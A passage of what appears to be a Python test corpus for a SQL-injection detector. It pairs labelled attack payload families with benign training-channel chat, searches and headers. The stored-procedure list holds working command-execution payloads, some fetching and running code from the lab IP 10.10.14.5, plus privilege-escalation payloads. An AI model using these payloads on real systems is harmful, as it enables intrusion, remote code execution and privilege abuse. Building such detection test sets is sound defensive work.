    ("\xbf' or 1=1-- -",) + RAWQ,
    ("\xdf' union select 1,2#",) + RAWQ,
    ("1\xbf' and 1=1#",) + RAWQ,
    # Unicode lookalike quote normalised to ' by the backend
    "1\uff07 or 1=1-- -",
    "admin\u02bc or 1=1#",
    # HTML-entity and backslash-escaped quotes the lab decodes before building the query
    "1&#39; or 1=1#",
    "1\\u0027 or 1=1-- -",
    "1' and 0x41=char(65)#",
]

# stored-procedure/xp_cmdshell: command execution and privilege changes through the database's procedures
PROC: list[Entry] = [
    # SQL Server labs and HTB Windows boxes (sa, or a login that can impersonate it)
    "'; exec master..xp_cmdshell 'whoami'--",
    "1; exec xp_cmdshell 'ping -n 3 10.10.14.5'--",
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--",
    "'; exec master.dbo.xp_cmdshell 'powershell -c iex(iwr http://10.10.14.5/rev.ps1 -usebasicparsing)'--",
    "';exec xp_cmdshell 'certutil -urlcache -f http://10.10.14.5/nc.exe c:\\windows\\temp\\nc.exe'--",
    "'; declare @c varchar(99); set @c='whoami'; exec master..xp_cmdshell @c--",
    "'; EXECUTE AS LOGIN = 'sa'; exec xp_cmdshell 'whoami'--",
    "'; exec ('xp_cmdshell ''whoami''') at [SQL02]--",
    "'; exec sp_addlogin 'student','P@ssw0rd1'--",
    "'; exec sp_addsrvrolemember 'student','sysadmin'--",
    "'; exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    "'; declare @o int; exec sp_oacreate 'wscript.shell',@o out; "
    "exec sp_oamethod @o,'run',null,'cmd /c whoami > c:\\temp\\o.txt'--",
    "'; exec sp_executesql N'select @@version'--",
    "'; exec sp_linkedservers--",
    "'; exec sp_msforeachtable 'select * from ?'--",
    # harder level: the keyword blacklist is beaten by concatenation and case
    "1;EXEC('xp_cmd'+'shell ''whoami''')--",
    "'; ExEc MaStEr..Xp_CmDsHeLl 'dir c:\\'--",
    "'; EXEC ('sel'+'ect name from sys.databases')--",
    # MySQL with lib_mysqludf_sys (HTB box): a UDF runs commands
    "1'; select sys_exec('id');#",
    "1';create function sys_eval returns string soname 'lib_mysqludf_sys.so';#",
    "1' union select sys_eval('id'),2#",
    # MySQL 5 PROCEDURE ANALYSE with an error payload
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    # PostgreSQL: libc's system() as a C function, and COPY ... FROM PROGRAM
    "'; create or replace function system(cstring) returns int as '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "language c strict;--",
    "'; DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id';--",
    "1; do $$ begin perform pg_sleep(0); execute 'copy (select 1) to program ''curl 10.10.14.5'''; end $$;--",
    # Oracle: an autonomous-transaction block through dbms_xmlquery (privilege escalation to DBA)
    "'||dbms_xmlquery.newcontext('declare pragma autonomous_transaction; begin execute immediate "
    "''grant dba to scott''; commit; end;')||'",
    "' and 1=(select dbms_java.runjava('oracle/aurora/util/Wrapper /bin/id') from dual)--",
    "'; call sys_exec('id');#",
]

# having/group-by/order-by probing: column counts, GROUP BY/HAVING errors and injection in a sort parameter
ORDER: list[Entry] = [
    # DVWA (low, medium), MySQL: how many columns?
    "1' order by 1#",
    "1' order by 3#",
    "1 order by 2",
    "1' group by 1,2#",
    # PortSwigger "determining the number of columns"
    "' ORDER BY 1--",
    "' ORDER BY 3--",
    "' GROUP BY 1,2,3--",
    # bWAPP and Mutillidae, MySQL
    "iron man' order by 7-- -",
    "' order by 7 -- ",
    # SQL Server: HAVING/GROUP BY errors name the columns one at a time
    "' having 1=1--",
    "' group by users.id having 1=1--",
    "' group by users.id,users.username having 1=1--",
    # WebGoat "SQL Injection (mitigation)": the ORDER BY column of the servers list
    "(CASE WHEN (SELECT ip FROM servers WHERE hostname='webgoat-prd') LIKE '104.%' THEN hostname ELSE id END)",
    "(case when (1=1) then id else hostname end)",
    # sort parameter injection on lab APIs (MySQL, PostgreSQL)
    "if(1=1,id,name)",
    "if((select substr(password,1,1) from users limit 1)='a',id,email)",
    "id,(select 1 from (select sleep(5))x)",
    "1,extractvalue(1,concat(0x7e,version()))",
    "id desc,if(1=1,1,(select 1 union select 2))",
    "ASC,(select 1 from pg_sleep(5))",
    "(select case when (select current_user)='postgres' then 1 else 1/0 end)",
    # the harder level: 'or' deleted once (so "order" breaks), case changes
    "1' oorrder by 3#",
    "1' OrDeR bY 3#",
    "1' order by 3,2,1-- -",
    # GROUP BY error-based and with rollup (MySQL)
    "' group by concat(version(),floor(rand(0)*2)) having min(0)#",
    "1' having 1=1#",
    "1' group by user having count(*)>0#",
    "1' order by sleep(5)#",
    "1' order by (select 1 from dual where 1=1)#",
]

# like/between/in operators: comparisons that replace '=' (or probe one character range at a time)
OPERATORS: list[Entry] = [
    # DVWA SQL Injection (Blind), MySQL
    "1' and database() like 'dv%'#",
    "1' and user() like 'root%'#",
    "1' and substring(database(),1,1) between 'a' and 'm'#",
    "1' and ascii(substr(database(),1,1)) between 97 and 122#",
    "1' and substr(database(),1,1) in ('d')#",
    # PortSwigger conditional-response lab with LIKE instead of '='
    "xyz' AND (SELECT password FROM users WHERE username='administrator') LIKE 'a%'--",
    # login probes (MySQL)
    "admin' and password like 'a%'#",
    "1' or 'a' in ('a')#",
    "1' or id between 1 and 100#",
    "1' or 1 between 0 and 2#",
    # SQL Server, PostgreSQL, Oracle
    "' and db_name() like 'm%'--",
    "' and current_user like 'post%'--",
    "' and version() ilike '%postgres%'--",
    "' and current_database() similar to 'dv%'--",
    "' and (select banner from v$version where rownum=1) like 'Oracle%'--",
    # Juice Shop, SQLite
    "')) or email like '%admin%'--",
    "')) and (select email from Users where id=1) glob 'admin*'--",
    # MySQL regular expressions when LIKE is filtered
    "1' and database() regexp '^d'#",
    "1' and user() rlike '^r'#",
    # harder filters: '=' gone, so everything is BETWEEN/IN/LIKE (MySQL)
    "1' and (select count(*) from users where user like 'a%')>0#",
    "' or username in (select username from users)-- -",
    "1' and 'a' not in ('b')#",
    "1' and (select password from users where user='admin') like binary 'a%'#",
    "admin' and password not between 'a' and 'z'#",
    "1' AnD dAtAbAsE() LiKe 'd%'#",
    # bWAPP search box (LIKE '%...%'), MySQL
    "%' and 1=1 and '%'='",
    "%' and (select count(*) from users) between 1 and 99 and '%'='",
    "1' and mid(user(),1,4) in ('root','bee@')#",
    "1' and (select secret from users limit 1) like '%flag%'#",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["id", "username", "password", "title", "search", "email", "q", "sort", "user", "login"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^|"
    raw_places = ("form", "rs-raw-body", "param-name", "rs-param-name")
    unique = True
    path_forbids = "/\\?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"

    def is_latin(self, sub: str, payload: str) -> bool:
        """The wide-byte payloads: a GBK lead byte sent as a raw byte."""
        return sub == "hex-char-encoding" and any("\x80" <= ch <= "\xff" for ch in payload)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently in a security team's training channel (students' questions about the
# labs, instructors' hints in prose, course schedules, links to write-ups and docs, code review comments),
# searches, profiles, lab-report file names and ordinary headers
CHAT = [
    # students asking about the labs
    "has anyone got DVWA running on the new lab VMs? mine shows the setup page again after every reboot",
    "DVWA tip: after you change the security level to medium, log out and back in or the cookie keeps 'low'",
    "I'm stuck on the Juice Shop scoreboard challenge, any hint without spoilers?",
    "finished the WebGoat SQL injection intro lessons, the advanced ones are next week",
    "bWAPP keeps asking me to install the database, is that expected on first start?",
    "Mutillidae reset button is under the Toggle Security menu, took me ages to find it",
    "what's the difference between union-based and error-based injection? the slides skip over it",
    "is the blind SQL injection lab supposed to be that slow or is my VM just tired?",
    "which port does Juice Shop listen on in the docker image? 3000?",
    "can we use sqlmap in the graded lab or is it manual only this time?",
    "the TryHackMe room on SQL injection is free, good warm-up before Thursday",
    "HackTheBox academy module on SQL fundamentals is worth doing before the injection module",
    "my Burp Suite community edition can't intercept the lab traffic, do I need the CA cert installed?",
    "does anyone have notes on how prepared statements actually stop injection? I want to write it up properly",
    "question about the stored procedures slide: are they always safe, or only when they don't build SQL inside?",
    "NoSQL injection lab: does MongoDB really accept operators from a query string? that seems wild",
    "got my first flag on the Juice Shop login challenge, feeling smug",
    "the PortSwigger labs reset after a while, remember to copy your notes before it expires",
    "can someone explain what information_schema is? it came up in the reading but not in class",
    "why does the order by trick tell you the number of columns? I get the result, not the reason",
    "is there a recording of Tuesday's session on time-based blind techniques?",
    "I set the DVWA security level to impossible and read the source, it's a nice example of PDO",
    "where do we submit the lab report, the LMS or the shared drive?",
    "the WebGoat jar needs Java 17, took me a while to figure that out",
    "what wordlist size is reasonable for the password lab? I don't want to hammer the box for hours",
    "anyone else's Kali image missing the mysql client? apt install default-mysql-client fixed it",
    "slightly embarrassing question: what does the -- at the end of those examples actually do?",
    "how do you tell if the backend is SQLite vs MySQL without breaking the lab?",
    "thanks for the hint about hex literals, the escaping finally makes sense now",
    "is the xp_cmdshell lab on the Windows VM or the Linux one?",
    # instructors' hints and announcements
    "Instructor note: lab 3 covers UNION SELECT, please read the column-count section before the session",
    "Hint for lab 5: look at how the page behaves when the condition is true vs false, no tools needed",
    "Reminder: only attack the lab hosts on 10.20.0.0/24, never anything on the corporate network",
    "Schedule: Monday SQL basics, Wednesday injection labs, Friday secure coding review",
    "Office hours moved to Thursday 14:00, same room (Lab B)",
    "For the write-up, describe the root cause and the fix (parameterised queries), not just the payload",
    "Lab VMs will be rebuilt Saturday night, save your notes outside the VM",
    "This week's reading: OWASP SQL Injection Prevention Cheat Sheet and the query parameterization one",
    "Please don't post full solutions in this channel, DM me if you're stuck for more than an hour",
    "The Juice Shop instance resets at midnight, your progress is kept in the cookie only",
    "Bonus task: find where the app concatenates the search term and rewrite it with a bound parameter",
    "Next cohort starts 2 September, sign-up sheet is pinned",
    "Grading: 40% lab reports, 40% final CTF, 20% participation",
    "Quick poll: should the NoSQL module come before or after the ORM module?",
    "Guest talk Friday: a DBA on least-privilege database accounts and why the app user shouldn't be sa",
    "If you see 'Table doesn't exist' errors in DVWA, click Create / Reset Database on setup.php",
    "The secure coding review session uses the Python examples from the repo, bring a laptop",
    "Exam is open book, but no internet access on the exam VMs",
    "Remember: stored procedures help only when they don't concatenate input into dynamic SQL inside",
    "Lab 7 is about ORDER BY: the sort column can't be a bound parameter, so allow-list it",
    # code review comments and team chat
    "code review: this query builds the WHERE clause with an f-string, please switch to a placeholder",
    "LGTM once the sort column goes through the allow-list, otherwise fine",
    "nit: use cursor.execute(sql, params) instead of formatting the string yourself",
    "we should add a linter rule for string-built SQL in the reporting service",
    "the ORM's raw() call in the export view takes user input, can we use filter() there?",
    "added a test that searches for O'Neil to make sure apostrophes still work",
    "the search endpoint now escapes % and _ for LIKE, thanks for catching that",
    "please don't log full queries with parameters, they include customer emails",
    "the migration adds an index on (last_name, first_name) for the search page",
    "the report query uses GROUP BY team HAVING count(*) > 5, check the numbers match the dashboard",
    "benchmark results for the new index are in the doc, p95 went from 800ms to 40ms",
    "our Mongo client now rejects keys starting with $ from user input, merged",
    "anyone know why the staging DB is slow? someone left a sleep in a test fixture",
    "I'll pair with you on the secure coding module tomorrow morning",
    "retro: the labs were great, but the VM setup ate half of the first day",
    "congrats to the blue team for winning the end-of-course CTF",
    "lunch order for the workshop: 12 vegetarian, 8 chicken, 3 vegan",
    "I passed the OSCP exam! the SQL injection practice here helped a lot",
    "who is presenting the Juice Shop walkthrough at the meetup?",
    "we're hiring two junior appsec engineers, referrals welcome",
]

SEARCHES = [
    "dvwa", "juice shop", "webgoat", "bwapp", "mutillidae", "tryhackme", "hackthebox", "portswigger",
    "sql injection lab", "owasp top 10", "burp suite", "sqlmap", "secure coding", "prepared statements",
    "Sean O'Neil", "o'connor", "union", "select", "order", "group", "like", "between", "sleep", "benchmark",
    "instructor", "lab assistant", "appsec", "blue team", "red team", "dba",
]

URLS = [
    "https://owasp.org/www-project-juice-shop/",
    "https://owasp.org/www-project-webgoat/",
    "https://owasp.org/www-project-top-ten/2017/A1_2017-Injection",
    "https://github.com/digininja/DVWA",
    "https://github.com/juice-shop/juice-shop",
    "https://github.com/WebGoat/WebGoat",
    "https://github.com/webpwnized/mutillidae",
    "http://www.itsecgames.com/",
    "https://tryhackme.com/room/sqlinjectionlm",
    "https://academy.hackthebox.com/module/details/33",
    "https://portswigger.net/web-security/sql-injection/cheat-sheet",
    "https://portswigger.net/web-security/all-labs#sql-injection",
    "https://pwning.owasp-juice.shop/companion-guide/latest/part2/injection.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://dev.mysql.com/doc/refman/8.0/en/string-functions.html",
    "https://www.postgresql.org/docs/current/functions-string.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/security/sql-injection",
    "https://www.mongodb.com/docs/manual/faq/fundamentals/#how-does-mongodb-address-sql-or-query-injection-",
    "https://training.example.com/courses/appsec-101/schedule?week=3",
    "https://wiki.example.com/security/training/lab-setup#dvwa",
]

PROSE = [
    "AppSec 101 - week 3: injection",
    "DVWA lab setup notes",
    "Juice Shop challenge list, difficulty 1-3",
    "WebGoat lesson plan",
    "bWAPP and Mutillidae install guide",
    "training room B schedule",
    "union select lab - instructor notes",
    "order by and group by exercises",
    "blind injection lab rubric",
    "stored procedure review checklist",
    "lab report template (SQL injection)",
    "secure coding: parameterised queries in Python, Java and Node",
    "Ana O'Leary",
    "D'Arcy, Mark",
    "students enrolled between June and August",
    "users like Jo or Joanne",
    "in-person or remote attendees",
    "select committee minutes",
    "union street office",
    "having problems with the VPN",
    "sleep clinic partners",
    "benchmark scores Q2",
    "null values in the export",
    "character limits for usernames",
    "hex colour codes for the slides",
    "information session for new starters",
    "schema changes approved this sprint",
    "exec summary for the board",
    "wait times at the help desk",
    "Mongo migration working group",
    "drop-off point for lab laptops",
    "where to find the course certificates",
    "true or false quiz answers",
    "1 to 1 mentoring sign-up",
    "admin accounts review -- quarterly",
]

PROFILES = [
    ("Dana Webb", "Training Centre, Room 2, Leeds"),
    ("Jordan O'Hara", "Harbour St 12, Cork"),
    ("Li Wei", "Science Park 3, Cambridge"),
    ("Fatima Al-Sayed", "Marina Walk 7, Dubai"),
    ("Mateus Union", "Rua do Carmo 18, Porto"),
    ("Grace Select", "Elm St 44, Boston"),
    ("Ravi D'Costa", "Linking Rd 9, Mumbai"),
    ("Juice Bar Co", "High St 101, Brighton"),
    ("Goat Farm Cheese Ltd", "Valley Rd 2, Cheddar"),
    ("Order of the Bee Keepers", "Hive Lane 3, Ghent"),
    ("Group Health Clinic", "Main St 500, Denver"),
    ("Sleep Sound Studio", "Night Ave 8, Reykjavik"),
    ("Between Two Trees Cafe", "Park Row 6, Bristol"),
    ("Like New Repairs", "Fixit Ct 4, Wellington"),
    ("Mutti's Kitchen", "Hauptstr. 14, Graz"),
    ("Hex & Bolt Hardware", "Forge Rd 19, Sheffield"),
    ("Charlotte Char", "Rue du Four 5, Lyon"),
    ("Null Pointer Games", "Studio 4, Montreal"),
    ("Academy of Web Security", "Campus Blvd 1, Utrecht"),
    ("Blue Team Coffee", "Dock St 22, Hamburg"),
]

UPLOAD_NAMES = [
    "lab3-union-select-report.pdf", "dvwa-lab-notes.docx", "juice-shop-scoreboard.png", "webgoat-lesson5.md",
    "week3-injection-slides.pptx", "student-roster-2024.csv", "blind-sqli-lab-report_ana.pdf",
    "secure-coding-review.xlsx", "bwapp-install-guide.pdf", "mutillidae-screenshot (2).png",
    "O'Hara-lab-report.pdf", "order-by-exercise.sql", "course-schedule-autumn.ics", "certificate_dana_webb.pdf",
    "burp-project-lab4.burp", "group_by_having_examples.sql", "nosql-lab-answers.md", "sleep-timing-chart.png",
    "stored-procedures-cheatsheet.pdf", "final-ctf-scoreboard.csv",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "python-httpx/0.27.0"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("Referer", "https://training.example.com/courses/appsec-101/labs/sql-injection"),
    ("Referer", "https://tryhackme.com/r/room/sqlinjectionlm"),
    ("Referer", "https://owasp.org/www-project-juice-shop/"),
    ("Referer", "https://www.google.com/search?q=dvwa+security+level+medium+explained"),
    ("Referer", "https://app.example.com/admin/users?sort=created_at&order=asc&page=2"),
    ("Referer", "https://app.example.com/admin/users/search?q=d%27arcy"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en;q=0.8"),
    ("X-Request-Id", "9b2e7c41-0f3d-4a6b-8e15-c2d9a0f7b386"),
    ("X-Api-Version", "2024-09-01"),
    ("Cookie", "session=abc123; security=low; PHPSESSID=k2j3h4g5f6d7s8a9"),
    ("Cookie", "session=abc123; language=en; welcomebanner_status=dismiss; cookieconsent_status=dismiss"),
    ("Cookie", "session=abc123; sort=last_name; dir=desc"),
    ("If-Modified-Since", "Wed, 21 Aug 2024 07:28:00 GMT"),
    ("X-Forwarded-For", "203.0.113.77"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
